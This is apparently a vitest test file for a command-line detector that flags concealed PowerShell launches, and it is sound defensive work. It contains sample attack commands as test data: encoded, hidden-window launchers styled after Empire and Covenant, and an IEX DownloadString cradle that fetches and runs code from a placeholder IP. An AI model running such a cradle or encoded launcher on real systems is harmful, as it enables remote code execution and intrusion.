import { describe, expect, it } from 'vitest';
import { concealmentOf } from '../../src/detect/command-line.js';

describe('command lines that hide what they run', () => {
  it("names the traits of C2 launchers: Empire's and Covenant's encoded, hidden PowerShell, cradles, in-memory evaluation", () => {
    expect(concealmentOf('powershell  -noP -sta -w 1 -enc  SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAGEAYgBsAEUALgBQAFMA')).toEqual(['encoded', 'hidden']);
    expect(
      concealmentOf('"powershell.exe" -Sta -Nop -Window Hidden -Command "sv o (New-Object IO.MemoryStream);[Convert]::FromBase64String(\'7Vp9\')"'),
    ).toEqual(['encoded', 'hidden']);
    expect(concealmentOf("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"")).toEqual(['download', 'in_memory']);
    expect(concealmentOf('pwsh -EncodedCommand JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==')).toEqual(['encoded']);
  });

  it('ordinary administration is not concealment: a script file, -NoProfile, an execution policy, a short -e value', () => {
    expect(concealmentOf('powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\scripts\\inventory.ps1')).toEqual([]);
    expect(concealmentOf('cmd.exe /c echo hello')).toEqual([]);
    expect(concealmentOf('robocopy C:\\data \\\\nas\\share /e /w 1')).toEqual([]);
    expect(concealmentOf('"C:\\Program Files\\Vendor\\agent.exe" -e prod')).toEqual([]);
    expect(concealmentOf(undefined)).toEqual([]);
  });
});
